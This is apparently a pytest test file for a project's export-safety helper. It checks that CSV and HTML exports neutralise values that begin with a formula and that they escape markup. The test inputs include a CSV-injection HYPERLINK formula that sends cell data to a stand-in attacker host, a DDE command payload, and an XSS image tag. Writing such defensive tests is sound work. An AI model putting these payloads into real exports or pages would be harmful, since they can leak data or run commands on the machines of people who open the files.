"""Every export neutralises formula-leading values and escapes HTML, through one helper
(watchfloor.export_safety): the executive summary's CSV and page, the vendor scorecards' CSV and
page, and the audit log's CSV."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import polars as pl
import pytest

from tests.export_inputs import executive_parts, vendor_card
from tests.warehouses.executive import AS_OF, fetch
from watchfloor import audit, scorecard_export
from watchfloor import executive as ex
from watchfloor import executive_export as export
from watchfloor.export_safety import csv_bytes, csv_cell, html_text, neutralise

ATTACK = '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open report")'
FORMULAS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_leading_values_get_an_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "+3.5%", "-1,204", "0.93", "-.5", "fraud_scams", "a=b", "", "1e-3"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


def test_html_text_neutralises_then_escapes():
    assert html_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert html_text(ATTACK) == "&#x27;=HYPERLINK(&quot;http://attacker.invalid/?d=&quot;&amp;A1,&quot;Open report&quot;)"
    assert html_text(None) == ""


def test_a_frame_to_csv_neutralises_text_and_keeps_numbers():
    frame = pl.DataFrame({"label": [ATTACK, "-5", "ok"], "value": [-5.0, 1.0, None], "n": [-1, 2, 3]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows[1] == ["'" + ATTACK, "-5.0", "-1"] and rows[2] == ["-5", "1.0", "2"] and rows[3] == ["ok", "", "3"]


def test_the_executive_csv_and_page_neutralise_a_hostile_category(exec_env):
    period = ex.last_7_days(AS_OF)
    figures, enforcement, notices, severe, rising = executive_parts(fetch())
    rising = rising.with_columns(pl.lit(ATTACK).alias("category"))
    notices = notices.with_columns(pl.lit(ATTACK).alias("category"))
    severe = severe.with_columns(pl.lit("@evil").alias("title"))
    text = export.to_csv(ex.figures_table(period, figures, enforcement, notices, severe, rising)).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert f"'{ATTACK}" in cells and f"'{ATTACK}: notices" in cells
    page = export.to_html(period, figures, enforcement, notices, severe, 0, rising, AS_OF)
    assert "=HYPERLINK" not in page.replace("&#x27;=HYPERLINK", "") and "&#x27;=HYPERLINK" in page


def test_the_vendor_csv_and_page_neutralise_a_hostile_vendor_name():
    card = vendor_card().with_columns(pl.lit(ATTACK).alias("vendor"))
    rows = list(csv.DictReader(io.StringIO(scorecard_export.scorecard_csv(card).decode("utf-8"))))
    assert rows[0]["vendor"] == "'" + ATTACK and rows[0]["qa_accuracy"] == "0.9"
    weeks = card.with_columns(week_start=pl.lit(datetime(2026, 11, 16)))
    kappa = pl.DataFrame({"vendor_id": ["v_a"], "category": ["+cmd"], "checks": [10], "agreed": [8],
                          "accuracy": [0.8], "kappa": [0.58], "band": ["moderate"]})
    page = scorecard_export.scorecard_html(card.row(0, named=True), weeks, kappa, date(2026, 11, 12),
                                           date(2026, 11, 18), datetime(2026, 11, 18, 12))
    assert "&#x27;=HYPERLINK" in page and "&#x27;+cmd" in page and 'HYPERLINK("' not in page


def test_the_audit_csv_uses_the_same_rule_for_every_column(tmp_path):
    log = audit.AuditLog(tmp_path / "audit.jsonl")
    log.append(user="-ana", role="analyst", action=audit.REVEAL, case_id="@k1", reason="\t=1+1 ticket")
    log.append(user="ole", role="ops_lead", action=audit.LOGIN_FAILED, reason="\r=2+2 typed")
    rows = list(csv.DictReader(io.StringIO(audit.to_csv(audit.to_frame(log.entries())).decode("utf-8"))))
    assert rows[1]["user"] == "'-ana" and rows[1]["case_id"] == "'@k1" and rows[1]["reason"] == "'\t=1+1 ticket"
    assert rows[0]["reason"] == "'\r=2+2 typed" and rows[0]["seq"] == "2"
